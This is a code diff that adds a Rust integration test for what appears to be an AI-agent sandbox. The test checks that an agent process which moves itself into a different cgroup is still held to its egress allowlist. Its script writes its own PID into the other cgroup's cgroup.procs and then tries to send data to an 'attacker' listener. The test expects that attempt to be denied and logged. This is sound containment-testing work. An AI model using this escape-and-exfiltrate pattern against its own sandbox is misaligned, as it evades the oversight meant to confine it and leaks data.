@@ -576,6 +576,46 @@ fn a_process_that_moved_itself_out_of_the_agent_cgroup_is_still_frozen_and_kille
     sensor.stop();
 }
 
+/// The egress allowlist follows the agent's processes, not its cgroup: one that moved itself
+/// out is still refused, and the attacker gets nothing.
+#[test]
+fn a_process_that_moved_itself_out_of_the_agent_cgroup_is_still_held_to_its_allowlist() {
+    if !can_run_kernel_tests(
+        "a_process_that_moved_itself_out_of_the_agent_cgroup_is_still_held_to_its_allowlist",
+    ) {
+        return;
+    }
+    let scene = Scene::new("escape-egress", "");
+    let elsewhere = TestCgroup::new("escape-egress");
+    let attacker = NetNs::new();
+    let record = scene.root.join("received");
+    let _listener = attacker.listen(9000, false, &record);
+    let mut sensor = scene.sensor();
+    let outcome = scene.root.join("outcome");
+    let script = format!(
+        "echo $$ > {procs} && exec /usr/bin/python3 -c \"\nimport socket\n\
+         try:\n\
+         \x20   socket.create_connection(('{ip}', 9000), timeout=3).sendall(b'escaped'); said = 'sent'\n\
+         except OSError as e:\n\
+         \x20   said = 'errno %d' % e.errno\n\
+         open('{outcome}', 'w').write(said)\n\"",
+        procs = s(&elsewhere.path.join("cgroup.procs")),
+        ip = attacker.remote_ip,
+        outcome = s(&outcome),
+    );
+    let status = sensor.exec_agent("escaped-egress", &scene.worktree, &script);
+    let events = sensor.stop();
+    assert!(status.success(), "the script failed");
+    assert_eq!(std::fs::read_to_string(&outcome).unwrap(), "errno 1");
+    assert!(std::fs::read(&record).unwrap().is_empty());
+    assert!(
+        events
+            .iter()
+            .any(|e| e["kind"] == "net.denied" && e["comm"] == "python3"),
+        "{events:#?}"
+    );
+}
+
 #[test]
 fn kill_9_of_the_daemon_loses_neither_tracking_nor_enforcement() {
     if !can_run_kernel_tests("kill_9_of_the_daemon_loses_neither_tracking_nor_enforcement") {
